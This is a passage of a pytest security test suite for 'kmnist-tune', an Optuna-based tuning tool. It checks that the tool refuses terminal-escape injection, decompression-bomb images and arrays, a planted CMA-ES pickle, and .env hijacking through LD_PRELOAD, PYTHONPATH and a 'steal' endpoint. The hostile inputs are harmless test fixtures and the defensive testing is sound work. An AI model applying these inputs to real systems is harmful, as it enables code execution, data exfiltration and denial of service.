    study.set_user_attr(STOP_ATTR, {"at": "\x1b]0;pwned\x07now", "by": "\x1b[2J\x1b[31mroot\r\x9b1m", "now": False})
    trial = study.ask()
    trial.set_user_attr("error", "\x1b[8mhidden\x1b[0m")
    study.tell(trial, state=TrialState.FAIL)
    for args in (("study", "show", "escapes"), ("study", "list")):
        proc = cli_here(*args, "--storage", shared.worker_url)
        printed = proc.stdout + proc.stderr
        assert "stopped" in printed or "escapes" in printed
        assert not any(c in printed for c in "\x1b\x07\r\x9b"), repr(printed[:400])


# -- orphans --------------------------------------------------------------------------------------


class _SlowBody(io.RawIOBase):
    """A checkpoint's bytes that arrive only once `go` is set: an upload held in flight."""

    def __init__(self, go: threading.Event):
        self.go, self.sent = go, 0
        self.started = threading.Event()

    def readable(self) -> bool:
        return True

    def readinto(self, b: Any) -> int:
        self.started.set()
        if self.sent == 0:
            self.go.wait(120)
        if self.sent >= 3 << 20:
            return 0
        n = min(len(b), 1 << 20)
        b[:n] = b"\x01" * n
        self.sent += n
        return n


def test_study_delete_leaves_no_row_behind_even_of_an_upload_in_flight(shared: Shared, tmp_path: Path) -> None:
    study = shared.create(tmp_path, "inflight")
    trial = study.ask()
    store = artifact_store(shared.storage())
    go = threading.Event()
    body = _SlowBody(go)
    errors: list[BaseException] = []

    def upload() -> None:
        try:
            store.write(f"{checkpoint_base(trial._trial_id, 0)}.pth", body)
        except BaseException as e:  # noqa: BLE001  (the test looks at it)
            errors.append(e)

    uploader = threading.Thread(target=upload)
    uploader.start()
    assert body.started.wait(60)
    delete = spawn_cli("study", "delete", "inflight", "--yes", "--storage", shared.worker_url)
    # Until the delete waits on the upload's lock (or, without one, has finished), the upload is held.
    with shared.connect("worker") as conn:

        def delete_waits_or_ended() -> bool:
            row = conn.execute(
                "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND application_name = %s",
                (f"kmnist-tune {delete.pid}",),
            ).fetchone()
            return delete.poll() is not None or bool(row and row[0])

        wait_until(delete_waits_or_ended, 120, "the delete to wait on the upload's lock", every=0.05)
    go.set()
    uploader.join(60)
    out, err = delete.communicate(timeout=120)
    assert delete.returncode == 0, err
    assert not any(r.startswith(f"{checkpoint_base(trial._trial_id, 0)}") for r in shared.rows())
    # A write for the deleted study that starts now stores nothing.
    from kmnist_tune.service.artifacts import OwnerGone

    with pytest.raises(OwnerGone):
        store.write(f"{checkpoint_base(trial._trial_id, 1)}.pth", io.BytesIO(b"late"))
    assert not any(r.startswith(f"{checkpoint_base(trial._trial_id, 0)}") for r in shared.rows())


def test_schema_prune_removes_rows_no_study_owns(shared: Shared, tmp_path: Path) -> None:
    study = shared.create(tmp_path, "prune")
    trial = study.ask()
    kept = f"{checkpoint_base(trial._trial_id, 0)}.pth"
    artifact_store(shared.storage()).write(kept, io.BytesIO(b"a live trial's checkpoint"))
    junk = ["../../etc/passwd", f"{checkpoint_base(10**9, 0)}.pth", str(uuid.uuid4())]
    for artifact_id in junk:
        shared.plant(artifact_id, b"orphan")
    before = shared.rows()  # other tests of the module planted orphans too
    out = cli_here("schema", "--prune", "--storage", shared.worker_url).stdout
    rows = shared.rows()
    assert f"pruned {len(before) - len(rows)} artifact(s)" in out and len(before) - len(rows) >= 3
    assert kept in rows and not rows & set(junk)
    assert "pruned 0 artifact(s)" in cli_here("schema", "--prune", "--storage", shared.worker_url).stdout


# -- .env ------------------------------------------------------------------------------------------


def test_dotenv_is_read_never_over_the_environment_and_warned_about_when_readable(shared: Shared, tmp_path: Path) -> None:
    shared.create(tmp_path, "from-dotenv")
    work = tmp_path / "work"
    work.mkdir()
    dotenv = work / ".env"
    dotenv.write_text(f"KMNIST_TUNE_STORAGE={shared.worker_url}\n")
    dotenv.chmod(0o600)
    proc = cli_here("study", "list", cwd=work)
    assert "from-dotenv" in proc.stdout  # the shared study, not a SQLite default
    # Found in the working directory, where the storage is is said (masked); nothing else is.
    assert proc.stderr.strip() == f"note: from {dotenv}: KMNIST_TUNE_STORAGE={mask(shared.worker_url)}"
    assert not (work / "kmnist-tune.db").exists()
    dotenv.chmod(0o644)
    proc = cli_here("study", "list", cwd=work)
    assert "can be read by other users" in proc.stderr and "from-dotenv" in proc.stdout
    dotenv.chmod(0o600)
    # The real environment wins over the file.
    local = f"sqlite:///{tmp_path / 'local.db'}"
    cli_here("study", "create", str(write_spec(tmp_path / "l.yaml", tiny_spec("local-only"))), "--storage", local)
    proc = cli_here("study", "list", cwd=work, env=cli_env(KMNIST_TUNE_STORAGE=local))
    assert "local-only" in proc.stdout and "from-dotenv" not in proc.stdout


# == unbounded input: every input is bounded before it is believed ================================
# Small files that claim huge contents, specs that ask for huge work or nest deeply: refused with one
# line and exit status 2, without allocating what they claim.

CLAIMED = 255_000  # the review's count: 200 MB of images (400 MB with the old copy) from a 194 KB file
PEAK_BYTES = 16 << 20  # what refusing any of these may allocate at most: the claimed contents are >= 200 MB


def peak_of(fn: Callable[[], Any]) -> tuple[BaseException | None, int]:
    """(what fn raised, the most memory Python and numpy held at once while it ran)."""
    tracemalloc.start()
    try:
        fn()
        raised = None
    except Exception as e:
        raised = e
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return raised, peak


def refused(fn: Callable[[], Any], *words: str) -> str:
    """fn raises a UserError naming every word, having allocated little."""
    raised, peak = peak_of(fn)
    assert isinstance(raised, UserError), f"expected a refusal, got {raised!r}"
    message = str(raised)
    assert "\n" not in message
    for word in words:
        assert word in message, message
    assert peak < PEAK_BYTES, f"{peak:,} bytes allocated before refusing"
    return message


def idx_images(path: Path, claimed: int, present: int | None = None, extra: bytes = b"", gz: bool = True) -> Path:
    """An idx3 file whose header claims `claimed` 28x28 images and whose body holds `present` (zeros),
    written in pieces so that making it costs no memory."""
    opener = gzip.open if gz else open
    with opener(path, "wb") as fh:
        fh.write(struct.pack(">4I", 2051, claimed, 28, 28))
        todo = (claimed if present is None else present) * 784
        block = bytes(1 << 20)
        while todo:
            fh.write(block[: min(todo, len(block))])
            todo -= min(todo, len(block))
        fh.write(extra)
    return path


def npz_images(path: Path, shape: tuple[int, ...], dtype: str = "u1", compress: bool = True) -> Path:
    """An npz whose arr_0 has `shape` (zeros), compressed, written in pieces like np.savez_compressed would."""
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(path, "w", compression=method) as zf, zf.open("arr_0.npy", "w", force_zip64=True) as fh:
        npy.write_array_header_1_0(fh, {"descr": np.dtype(dtype).str, "fortran_order": False, "shape": shape})
        todo = int(np.prod(shape)) * np.dtype(dtype).itemsize
        block = bytes(1 << 20)
        while todo:
            fh.write(block[: min(todo, len(block))])
            todo -= min(todo, len(block))
    return path


def png_by_hand(path: Path, width: int, height: int) -> Path:
    """A valid 1-bit greyscale PNG of width x height, all black, compressed row by row (no picture in memory)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    z = zlib.compressobj(9)
    row = bytes(1 + (width + 7) // 8)  # filter byte 0, then the packed bits
    idat = b"".join(z.compress(row) for _ in range(height)) + z.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b""))
    return path


# --------------------------------------------------------------------------------- predict pictures


def test_a_118_byte_40000x1_png_is_refused_from_its_header(tmp_path: Path) -> None:
    png = tmp_path / "thin.png"
    Image.new("L", (40000, 1)).save(png)
    assert png.stat().st_size < 1024  # the review's 118 bytes, give or take Pillow's version
    refused(lambda: image_to_28(png), "40000x1", "8192", "crop or scale")


def test_a_13000x13000_png_is_refused_before_it_is_decoded(tmp_path: Path) -> None:
    png = png_by_hand(tmp_path / "square.png", 13000, 13000)
    assert png.stat().st_size < 1 << 20
    with pytest.warns(Image.DecompressionBombWarning), Image.open(png) as im:
        assert im.size == (13000, 13000)  # a real picture Pillow would decode after a warning: 169 MB of pixels
    refused(lambda: image_to_28(png), "8192 pixels a side", "36 M pixels", "crop or scale")
    # Below Pillow's own limit (89 M pixels), the caps here still hold.
    refused(lambda: image_to_28(png_by_hand(tmp_path / "page.png", 8000, 8000)), "8000x8000", "36 M pixels")


def test_a_long_side_alone_is_refused_and_a_long_scan_is_taken(tmp_path: Path) -> None:
    # 8193 x 1 is few pixels, but padded to a square it would be 67 MB: the side is capped.
    refused(lambda: image_to_28(png_by_hand(tmp_path / "long.png", 8193, 1)), "8193x1")
    assert image_to_28(png_by_hand(tmp_path / "ok.png", 8192, 8)).shape == (28, 28)


def test_pillows_decompression_bomb_warning_is_a_refusal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    png = tmp_path / "bomb.png"
    Image.new("L", (40, 40), 255).save(png)
    # Pillow warns between its limit and twice it, and only raises above: both must refuse.
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)
    refused(lambda: image_to_28(png), "decompression bomb")
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 500)
    refused(lambda: image_to_28(png), "decompression bomb")


# ------------------------------------------------------------------------------- predict array files


def test_a_194kb_gzip_idx_claiming_255000_images_is_refused_from_its_header(tmp_path: Path) -> None:
    bomb = idx_images(tmp_path / "bomb-images-idx3-ubyte.gz", CLAIMED)
    assert bomb.stat().st_size < 400 << 10
    refused(lambda: data_files.read_array_file(bomb, images=True), "255,000 images", "at most 100,000", "--max-images")
    # The header's claim is checked even when the body is not there at all.
    short = idx_images(tmp_path / "short-idx3-ubyte.gz", CLAIMED, present=1)
    refused(lambda: data_files.read_array_file(short, images=True), "255,000 images", "--max-images")


def test_an_npz_whose_arr_0_holds_255000_images_is_refused_from_its_npy_header(tmp_path: Path) -> None:
    bomb = npz_images(tmp_path / "bomb.npz", (CLAIMED, 28, 28))
    assert bomb.stat().st_size < 400 << 10
    refused(lambda: data_files.read_array_file(bomb, images=True), "255,000 images", "--max-images")
    labels = npz_images(tmp_path / "labels.npz", (CLAIMED * 100,), dtype="<i8")
    refused(lambda: data_files.read_array_file(labels, images=False), "25,500,000 labels", "--max-images")


def test_max_images_raises_the_cap_and_exactly_the_announced_bytes_are_read(tmp_path: Path) -> None:
    five = idx_images(tmp_path / "five-idx3-ubyte.gz", 5)
    plain = idx_images(tmp_path / "five-idx3-ubyte", 5, gz=False)
    five_npz = npz_images(tmp_path / "five.npz", (5, 28, 28))
    for path in (five, plain, five_npz):
        refused(
            lambda path=path: data_files.read_array_file(path, images=True, limit=4), "5 images", "at most 4", "--max-images 5"
        )
        assert data_files.read_array_file(path, images=True, limit=5).shape == (5, 28, 28)
    # The body is exactly header + n x 784 bytes: more or fewer is a malformed file.
    for bad, why in (
        (idx_images(tmp_path / "long-idx3-ubyte.gz", 5, extra=b"\0"), "more than 3920 bytes"),
        (idx_images(tmp_path / "cut-idx3-ubyte.gz", 5, present=4), "has 3136 bytes"),
        (idx_images(tmp_path / "long-idx3-ubyte", 5, extra=bytes(1 << 20), gz=False), "more than 3920 bytes"),
    ):
        refused(lambda bad=bad: data_files.read_array_file(bad, images=True), "malformed", why)


def test_an_npz_is_checked_by_its_header_before_its_data(tmp_path: Path) -> None:
    objects = tmp_path / "objects.npz"
    np.savez(objects, np.array([{"a": 1}, None], dtype=object))  # pickled: never loaded
    refused(lambda: data_files.read_array_file(objects, images=False), "Python objects")
    floats = npz_images(tmp_path / "floats.npz", (5, 28, 28), dtype="<f8")
    refused(lambda: data_files.read_array_file(floats, images=True), "float64", "expected uint8")
    wrong = npz_images(tmp_path / "wrong.npz", (5, 32, 32))
    refused(lambda: data_files.read_array_file(wrong, images=True), "expected (N, 28, 28)")
    # A header that claims more data than the member holds.
    short = tmp_path / "short.npz"
    with zipfile.ZipFile(short, "w") as zf, zf.open("arr_0.npy", "w") as fh:
        npy.write_array_header_1_0(fh, {"descr": "|u1", "fortran_order": False, "shape": (5, 28, 28)})
        fh.write(bytes(784))
    refused(lambda: data_files.read_array_file(short, images=True), "malformed", "ends after 784 of 3920 bytes")


# ---------------------------------------------------------------------------------- data set files


def with_md5sums(folder: Path) -> None:
    lines = [f"{hashlib.md5(p.read_bytes()).hexdigest()}  {p.name}" for p in sorted(folder.iterdir()) if p.name != "MD5SUMS"]
    (folder / "MD5SUMS").write_text("\n".join(lines) + "\n")


def test_a_data_set_file_that_verifies_but_claims_too_many_images_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "data"
    shutil.copytree(FIXTURE, folder)
    idx_images(folder / "t10k-images-idx3-ubyte.gz", CLAIMED)
    npz_images(folder / "kmnist-test-imgs.npz", (CLAIMED, 28, 28))
    with_md5sums(folder)  # the user's own subset: its md5 matches, its header still may not lie
    for fmt in ("idx", "npz"):
        refused(
            lambda fmt=fmt: data_files.load_split("kmnist", "test", folder, fmt=fmt, download=False),
            "255,000 images",
            "the kmnist test split has 10,000",
        )
    assert len(data_files.load_split("kmnist", "train", folder, fmt="idx", download=False)[0]) > 0  # the rest still loads


# ------------------------------------------------------------------------------------------- specs


def test_study_create_refuses_a_huge_n_ei_candidates(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'o.db'}"
    spec = write_spec(tmp_path / "s.yaml", tiny_spec("bomb", sampler={"name": "tpe", "options": {"n_ei_candidates": 2000000000}}))
    proc = cli_here("study", "create", str(spec), "--storage", url, check=False)
    line = error_line(proc)
    assert proc.returncode == 2 and "sampler.options: n_ei_candidates: 2000000000" in line and "1..10000" in line
    assert not (tmp_path / "o.db").exists() or "bomb" not in optuna.get_all_study_names(url)


@pytest.mark.parametrize(
    "options",
    [
        {"sampler": {"name": "cmaes", "options": {"popsize": 10**9}}},
        {"pruner": {"name": "successive_halving", "options": {"min_early_stopping_rate": 10**6}}},
        {"pruner": {"name": "median", "options": {"n_warmup_steps": 10**12}}},
        {"sampler": {"name": "tpe", "options": {"prior_weight": float("inf")}}},
        {"sampler": {"name": "cmaes", "options": {"x0": {f"p{i}": 0.5 for i in range(1000)}}}},
        {"sampler": {"name": "cmaes", "options": {"restart_strategy": "i" * 10_000}}},
    ],
    ids=["popsize", "early-stopping-rate", "warmup", "infinite", "long-mapping", "long-string"],
)
def test_every_option_value_is_bounded(tmp_path: Path, options: dict[str, Any]) -> None:
    from kmnist_tune.contract.load import parse_spec
    from kmnist_tune.contract.spec import SpecError

    with pytest.raises(SpecError) as err:
        parse_spec(tiny_spec("opts", **options))
    assert "options" in str(err.value) and "\n" not in str(err.value)


def nested(depth: int) -> Any:
    node: Any = 1
    for _ in range(depth):
        node = {"a": node}
    return node


def test_a_deeply_nested_spec_file_is_one_line(tmp_path: Path) -> None:
    flow = tmp_path / "flow.yaml"
    flow.write_text("name: deep\nbudget: {n_trials: 2}\ndescription: " + "[" * 30_000 + "]" * 30_000 + "\n")
    block = tmp_path / "block.yaml"
    block.write_text("name: deep\nbudget: {n_trials: 2}\ndescription:\n" + "".join("  " * i + "- \n" for i in range(1, 60)))
    for cli, path in ((run_cli, flow), (cli_here, block)):
        proc = cli("study", "create", str(path), "--storage", f"sqlite:///{tmp_path / 'o.db'}", check=False)
        assert proc.returncode == 2 and "nested more than 20 levels deep" in error_line(proc)
    # What the depth limit leaves: every real spec is a few levels deep.
    from kmnist_tune.contract.load import parse_spec

    parse_spec(tiny_spec("ok", sampler={"name": "cmaes", "options": {"x0": {"lr": 3e-3}}}))


def test_a_bad_spec_stored_by_anyone_sharing_the_database_is_one_line(tmp_path: Path) -> None:
    url = created_study(tmp_path, "shared")
    study = optuna.load_study(study_name="shared", storage=url)
    good = study.user_attrs[SPEC_ATTR]
    for cli, bad, words in (
        (
            run_cli,
            {**good, "sampler": {"name": "tpe", "options": {"n_ei_candidates": 2000000000}}},
            ["n_ei_candidates", "1..10000"],
        ),
        (cli_here, {**good, "description": nested(500)}, ["nested more than 20 levels deep"]),
    ):
        study.set_user_attr(SPEC_ATTR, json.loads(json.dumps(bad)))
        proc = cli("study", "show", "shared", "--storage", url, check=False)
        line = error_line(proc)
        assert proc.returncode == 2 and "spec stored in study 'shared'" in line, line
        assert all(w in line for w in words), line


# ------------------------------------------------------------------------- predict, end to end


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A model directory as `export` writes it, with untrained weights: predict reads it before its
    inputs, and what it predicts does not matter here."""
    tmp = tmp_path_factory.mktemp("model")
    return crafted_model_dir(tmp / "model", tmp / "pwned", classes=[str(c["char"]) for c in data_files.class_map("kmnist")])


def test_predict_refuses_the_attacks_with_one_line(model_dir: Path, tmp_path: Path) -> None:
    thin = tmp_path / "thin.png"
    Image.new("L", (40000, 1)).save(thin)
    bomb = idx_images(tmp_path / "bomb-idx3-ubyte.gz", CLAIMED)
    five = idx_images(tmp_path / "five-idx3-ubyte.gz", 5)
    for cli, args, words in (  # one real process, the others through the entry point's `main` here
        (run_cli, [str(thin)], ["40000x1", "8192"]),
        (cli_here, [str(bomb)], ["255,000 images", "--max-images 255000"]),
        (cli_here, [str(five), "--max-images", "4"], ["5 images", "at most 4"]),  # the option reaches the reader
    ):
        proc = cli("predict", str(model_dir), *args, check=False)
        line = error_line(proc)
        assert proc.returncode == 2 and all(w in line for w in words), line


def test_a_study_attribute_nested_beyond_any_decoder_is_one_line(shared: Shared, tmp_path: Path) -> None:
    """Written with SQL, so deep that Optuna's own JSON decoding recurses out before the spec is seen."""
    shared.create(tmp_path, "abyss")
    depth = 100_000
    shared.sql(
        "UPDATE study_user_attributes SET value_json = %s WHERE key = %s AND study_id = "
        "(SELECT study_id FROM studies WHERE study_name = 'abyss')",
        ("[" * depth + "]" * depth, SPEC_ATTR),
    )
    # A real process for `study show`, the worker through the entry point's `main` here.
    for cli, args in ((run_cli, ("study", "show", "abyss")), (cli_here, ("worker", "--study", "abyss", "--gpus", "none"))):
        proc = cli(*args, "--storage", shared.worker_url, check=False)
        assert proc.returncode == 2 and "nested too deeply" in error_line(proc)


def test_a_wandb_sweep_file_cannot_ask_for_an_unbounded_bracket_count(tmp_path: Path) -> None:
    sweep = {
        "method": "random",
        "metric": {"name": "valid_accuracy", "goal": "maximize"},
        "run_cap": 2,
        "parameters": {"lr": {"distribution": "log_uniform_values", "min": 1e-3, "max": 1e-2}, "epochs": {"value": 1}},
        "early_terminate": {"type": "hyperband", "max_iter": 27, "s": 10**9, "eta": 3},
    }
    path = write_spec(tmp_path / "sweep.yaml", sweep)
    proc = cli_here("study", "create", str(path), "--storage", f"sqlite:///{tmp_path / 's.db'}", check=False)
    assert proc.returncode == 2 and "early_terminate.s" in error_line(proc)


# -- issue 34: a pickle in the study database ---------------------------------------------------------


def _planted_cmaes_study(shared: Shared, tmp: Path, name: str, marker: Path) -> optuna.Study:
    """A study whose stored spec an attacker switched to CMA-ES, with one finished trial carrying CMA-ES's
    optimizer state: a pickle that touches `marker` when it is loaded (what Optuna's CmaEsSampler does with
    `cma:optimizer:*` on its next ask). Two searched floats, so that CMA-ES samples (it skips one)."""
    params = {
        "lr": {"distribution": "log_uniform_values", "min": 2e-3, "max": 1e-2},
        "weight_decay": {"distribution": "uniform", "min": 0.0, "max": 0.1},
    }
    study = shared.create(tmp, name, budget={"n_trials": 2}, parameters={**tiny_spec()["parameters"], **params})
    spec = study.user_attrs[SPEC_ATTR]
    spec["sampler"] = {"name": "cmaes", "options": {}}
    study.set_user_attr(SPEC_ATTR, spec)
    dists = {
        "lr": optuna.distributions.FloatDistribution(2e-3, 1e-2, log=True),
        "weight_decay": optuna.distributions.FloatDistribution(0.0, 0.1),
    }
    study.add_trial(
        create_trial(
            state=TrialState.COMPLETE,
            value=0.5,
            params={"lr": 5e-3, "weight_decay": 0.05},
            distributions=dists,
            system_attrs={"cma:optimizer:0": pickle.dumps(_Payload(marker)).hex(), "cma:generation": 0},
        )
    )
    return study


def test_a_pickle_planted_for_cmaes_never_runs_and_the_study_stays_readable(shared: Shared, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    _planted_cmaes_study(shared, tmp_path, "pickled", marker)
    env = cli_env(WANDB_MODE="disabled")
    worker = cli_here("worker", "--study", "pickled", "--storage", shared.worker_url, "--gpus", "none", env=env, check=False)
    line = error_line(worker)
    assert "sampler 'cmaes' is refused" in line and "pickle" in line and "use tpe" in line, line
    assert not marker.exists()
    # Nothing was claimed, and reading the study (its spec names the refused sampler) still works.
    trials = optuna.load_study(study_name="pickled", storage=shared.storage()).trials
    assert [t.state for t in trials] == [TrialState.COMPLETE]
    for command in (("study", "show", "pickled"), ("best", "--study", "pickled")):
        assert cli_here(*command, "--storage", shared.worker_url, env=env).returncode == 0
    assert not marker.exists()


def test_study_create_refuses_cmaes_in_one_line(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'o.db'}"
    spec = write_spec(tmp_path / "s.yaml", tiny_spec("cma", sampler={"name": "cmaes", "options": {}}))
    line = error_line(cli_here("study", "create", str(spec), "--storage", url, check=False))
    assert "sampler.name: sampler 'cmaes' is refused" in line and "use tpe (the default), random or grid" in line
    assert not (tmp_path / "o.db").exists() or "cma" not in optuna.get_all_study_names(url)


def test_no_sampler_pruner_or_storage_a_worker_uses_unpickles() -> None:
    """Where Optuna unpickles, read from its installed source: only CMA-ES (refused) and the journal
    storage's snapshots (kmnist-tune never opens a journal storage). An Optuna upgrade that starts
    unpickling in a sampler, pruner or storage we use fails here."""
    from kmnist_tune.service.studies import PRUNER_CLASSES, SAMPLER_CLASSES, UNSAFE_SAMPLERS

    root = Path(optuna.__file__).parent
    unpickling = {
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if any(call in p.read_text(encoding="utf-8") for call in ("pickle.load", "cloudpickle", "dill."))
        and p.relative_to(root).parts[0] != "testing"
    }
    assert unpickling == {"samplers/_cmaes.py", "storages/journal/_storage.py"}, unpickling
    assert set(UNSAFE_SAMPLERS) == {"cmaes"} and "cmaes" not in SAMPLER_CLASSES
    used = [*SAMPLER_CLASSES.values(), *PRUNER_CLASSES.values(), optuna.storages.RDBStorage, optuna.storages.GrpcStorageProxy]
    for cls in used:
        assert sys.modules[cls.__module__].__file__ not in {str(root / u) for u in unpickling}, cls


# -- issue 34: worker processes run only the package's code ------------------------------------------


def test_slot_processes_import_nothing_from_the_folder_and_take_no_loader_settings_from_its_dotenv(tmp_path: Path) -> None:
    """`worker --per-gpu 2` from a cloned sweep repository holding a `typer.py` (a module every slot
    imports) and a `.env` that points Python's and the loader's settings at the attacker's files."""
    url = created_study(tmp_path, "slots")
    cli_here("study", "stop", "slots", "--storage", url)  # the slots start, import everything, and leave
    marker, repo, evil = tmp_path / "pwned", tmp_path / "cloned-sweeps", tmp_path / "evil"
    for folder in (repo, evil):
        folder.mkdir()
        for module in ("typer", "optuna", "sitecustomize", "usercustomize"):
            (folder / f"{module}.py").write_text(f"import pathlib; pathlib.Path({str(marker)!r}).touch()\n")
    (repo / ".env").write_text(
        f"PYTHONPATH={evil}\nLD_PRELOAD={tmp_path / 'no-such.so'}\nPYTHONSTARTUP={evil / 'typer.py'}\n"
        f"WANDB_BASE_URL=http://127.0.0.1:9/steal\n"
    )
    (repo / ".env").chmod(0o600)
    console = Path(sys.executable).with_name("kmnist-tune")  # how a user starts it (not `python -m`)
    proc = subprocess.run(
        [str(console), "worker", "--study", "slots", "--storage", url, "--gpus", "none", "--per-gpu", "2"],
        cwd=repo,
        env=cli_env(),
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr.count("claims no more trials") == 2, proc.stderr  # both slots ran, as our code
    assert not marker.exists()
    assert "cannot be preloaded" not in proc.stderr  # ld.so never saw the file's LD_PRELOAD
    ignored = next(line for line in proc.stderr.splitlines() if "ignored" in line and ".env" in line)
    assert all(key in ignored for key in ("LD_PRELOAD", "PYTHONSTARTUP", "WANDB_BASE_URL")), ignored
    assert proc.stderr.count(ignored) == 1  # said once, by the supervisor; the slots read no .env


# -- issue 34: a .env is the user's, not the folder's -------------------------------------------------


@pytest.fixture
def clean_environ(monkeypatch: pytest.MonkeyPatch) -> Iterator[pytest.MonkeyPatch]:
    """os.environ as it is now, put back after the test (read_env_file writes into it)."""
    for key in ("WANDB_BASE_URL", "KMNIST_TUNE_ARTIFACTS", "PYTHONSTARTUP", "HTTPS_PROXY", "LD_PRELOAD", "KT_PLAIN"):
        monkeypatch.delenv(key, raising=False)
    for key in ("KMNIST_TUNE_STORAGE_PASSWORD_FILE",):
        monkeypatch.delenv(key, raising=False)
    monkeypatch.delenv("KMNIST_TUNE_ENV_FILE", raising=False)
    saved = dict(os.environ)
    yield monkeypatch
    os.environ.clear()
    os.environ.update(saved)


def test_a_dotenv_in_the_folder_cannot_set_endpoints_or_import_settings(tmp_path: Path, clean_environ: Any) -> None:
    from kmnist_tune.cli.env_file import read_env_file

    clean_environ.chdir(tmp_path)
    dotenv = tmp_path / ".env"
    dotenv.write_text(
        "WANDB_BASE_URL=http://127.0.0.1:9/steal\nHTTPS_PROXY=http://127.0.0.1:9\nPYTHONSTARTUP=/tmp/x.py\n"
        f"LD_PRELOAD=/tmp/x.so\nKMNIST_TUNE_ARTIFACTS={tmp_path / 'art'}\nKT_PLAIN=1\n"
        "KMNIST_TUNE_STORAGE_PASSWORD_FILE=/etc/passwd\n"  # a file's text sent as a password
    )
    dotenv.chmod(0o600)
    result = read_env_file()
    for key in ("WANDB_BASE_URL", "HTTPS_PROXY", "PYTHONSTARTUP", "LD_PRELOAD", "KMNIST_TUNE_STORAGE_PASSWORD_FILE"):
        assert key not in os.environ
    assert os.environ["KT_PLAIN"] == "1" and os.environ["KMNIST_TUNE_ARTIFACTS"] == str(tmp_path / "art")
    warning, note = result.lines
    ignored = "HTTPS_PROXY, KMNIST_TUNE_STORAGE_PASSWORD_FILE, LD_PRELOAD, PYTHONSTARTUP, WANDB_BASE_URL"
    assert warning.startswith(f"warning: {ignored} from ") and "--env-file" in warning
    assert note == f"note: from {dotenv}: KMNIST_TUNE_ARTIFACTS={tmp_path / 'art'}"


def test_a_dotenv_others_may_write_or_own_is_not_read_and_a_named_one_is(tmp_path: Path, clean_environ: Any) -> None:
    from kmnist_tune.cli.env_file import read_env_file

    clean_environ.chdir(tmp_path)
    dotenv = tmp_path / ".env"
    dotenv.write_text("KT_PLAIN=1\nWANDB_BASE_URL=https://wandb.example.org\n")
    dotenv.chmod(0o620)  # group-writable
    (line,) = read_env_file().lines
    assert "is not read: other users may write it (mode 620)" in line and "KT_PLAIN" not in os.environ
    dotenv.chmod(0o600)
    os.chown(dotenv, 65534, 65534)  # another user's (the suite runs as root, which may give files away)
    (line,) = read_env_file().lines
    assert "is not read: it belongs to user id 65534, not you" in line and "KT_PLAIN" not in os.environ
    os.chown(dotenv, os.getuid(), os.getgid())
    # Named by the user: taken whole, and the endpoint it sets is said.
    clean_environ.setenv("KMNIST_TUNE_ENV_FILE", str(dotenv))
    (line,) = read_env_file().lines
    assert line == f"note: {dotenv.resolve()} sets WANDB_BASE_URL"
    assert os.environ["WANDB_BASE_URL"] == "https://wandb.example.org" and os.environ["KT_PLAIN"] == "1"
    # Set and empty: no file at all. A named file that is not there: one line from the CLI.
    for key in ("KT_PLAIN", "WANDB_BASE_URL"):
        del os.environ[key]
    clean_environ.setenv("KMNIST_TUNE_ENV_FILE", "")
    assert read_env_file().path is None and "KT_PLAIN" not in os.environ
    proc = cli_here("--env-file", str(tmp_path / "missing.env"), "study", "list", cwd=tmp_path, check=False)
    assert "env file" in error_line(proc) and proc.returncode == 2


# -- issue 34: one statement wedges everyone ----------------------------------------------------------


def test_a_table_lock_held_by_one_user_ends_each_command_in_one_line_and_workers_carry_on(shared: Shared, tmp_path: Path) -> None:
    """`BEGIN; LOCK TABLE studies IN ACCESS EXCLUSIVE MODE` as the worker role (it may UPDATE, so it may
    LOCK): every client of every study would wait for it forever. Each command waits its lock_timeout
    (2 s here) and ends in one line; a worker retries and finishes its trial once the lock is gone."""
    shared.create(tmp_path, "wedged", budget={"n_trials": 1})
    env = cli_env(KMNIST_TUNE_DB_LOCK_TIMEOUT="2")
    attacker = psycopg.connect(
        host=ADMIN.host, port=ADMIN.port, user=shared.roles["worker"][0], password=shared.roles["worker"][1], dbname=shared.db
    )
    try:
        attacker.execute("LOCK TABLE studies IN ACCESS EXCLUSIVE MODE")  # psycopg began a transaction: held
        # A process of its own (with a time limit: without bounded waits it would wait forever), then one
        # more command in this process.
        listed = run_cli("study", "list", "--storage", shared.worker_url, env=env, check=False, timeout=120)
        shown = cli_here("study", "show", "wedged", "--storage", shared.worker_url, env=env, check=False)
        for proc in (listed, shown):
            line = error_line(proc)
            assert "the storage is busy" in line and "lock timeout" in line and "pg_locks" in line, line
        worker = spawn_cli("worker", "--study", "wedged", "--storage", shared.worker_url, "--gpus", "none", env=env)
        wait_until(lambda: _waits_for_lock(shared), 120, "the worker waits for the table lock", procs=[worker])
        time.sleep(3)  # past its lock_timeout: the statement is cut short and retried
    finally:
        attacker.rollback()  # the lock is gone
        attacker.close()
    out, err = worker.communicate(timeout=300)
    assert worker.returncode == 0, err
    assert "retrying" in err and "lock timeout" in err and "storage is back" in err, err
    states = [t.state for t in optuna.load_study(study_name="wedged", storage=shared.storage()).trials]
    assert states == [TrialState.COMPLETE]


def _waits_for_lock(shared: Shared) -> bool:
    """A kmnist-tune session of the study database is waiting for a lock now."""
    rows = shared.sql(
        "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND wait_event_type = 'Lock'"
        " AND application_name LIKE 'kmnist-tune %%'"
    )
    return bool(rows[0][0])


def test_every_session_bounds_its_waits_directly_and_through_the_database_defaults(shared: Shared) -> None:
    from kmnist_tune.service.storage import Timeouts, engine

